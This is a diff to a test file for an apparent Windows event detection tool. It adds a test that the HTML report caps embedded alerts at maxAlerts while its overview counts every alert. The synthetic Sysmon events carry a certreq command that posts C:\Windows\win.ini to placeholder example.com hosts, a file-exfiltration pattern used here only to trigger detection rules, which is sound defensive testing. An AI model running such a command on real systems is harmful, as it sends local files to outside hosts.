@@ -18,7 +18,10 @@ import { runCli } from '../helpers/cli.js';
 import { needs, TOOLS } from '../helpers/requirements.js';
 import { ndjson } from '../server/support/events.js';
 import { XSS, xssEvents } from '../server/support/xss.js';
-import { scriptSafeJson } from '../../src/output/html.js';
+import { renderHtmlReport, scriptSafeJson } from '../../src/output/html.js';
+import { createPipeline } from '../../src/pipeline.js';
+import type { Alert } from '../../src/model/alert.js';
+import type { WinEvent } from '../../src/model/event.js';
 
 // Browser globals used inside page.evaluate (the tests' tsconfig has no DOM lib).
 interface El {
@@ -187,4 +190,27 @@ test('scriptSafeJson: nothing in the data can end the script element or open a c
   const s = scriptSafeJson(hostile);
   assert.ok(!/[<>&\u2028\u2029]/.test(s), s);
   assert.deepEqual(JSON.parse(s), hostile);
+});
+
+test('at most maxAlerts alerts are embedded; the overview still counts all of them', async () => {
+  execFileSync(process.execPath, [join(REPO_ROOT, 'scripts', 'build-console.mjs')], { stdio: 'inherit' });
+  const pipeline = await createPipeline({ rules: { paths: [], builtin: true } });
+  const alerts: Alert[] = [];
+  for (let i = 1; i <= 7; i++) {
+    const ev: WinEvent = {
+      system: { provider: 'Microsoft-Windows-Sysmon', channel: 'Microsoft-Windows-Sysmon/Operational', eventId: 1, timeCreated: `2026-05-01T10:0${i}:00Z`, computer: `WS${i}`, recordId: i },
+      data: { ProcessId: String(1000 + i), Image: 'C:\\Windows\\System32\\certreq.exe', CommandLine: `certreq -Post -config https://x${i}.example/ C:\\Windows\\win.ini out.txt`, User: 'CORP\\alice' },
+      origin: { file: 'test', line: i },
+    };
+    alerts.push(...pipeline.handle(ev));
+  }
+  assert.ok(alerts.length >= 7);
+  const html = await renderHtmlReport(alerts, { maxAlerts: 3, generatedAt: new Date('2026-05-02T00:00:00Z') });
+  const data = JSON.parse(/<script type="application\/json" id="procwatch-report">([\s\S]*?)<\/script>/.exec(html)![1]!) as { total: number; shown: number; alerts: unknown[]; stats: { total: number; top_hosts: unknown[] }; generated_at: string };
+  assert.equal(data.alerts.length, 3);
+  assert.equal(data.shown, 3);
+  assert.equal(data.total, alerts.length);
+  assert.equal(data.stats.total, alerts.length, 'the overview counts every alert');
+  assert.equal(data.stats.top_hosts.length, 7);
+  assert.equal(data.generated_at, '2026-05-02T00:00:00.000Z');
 });
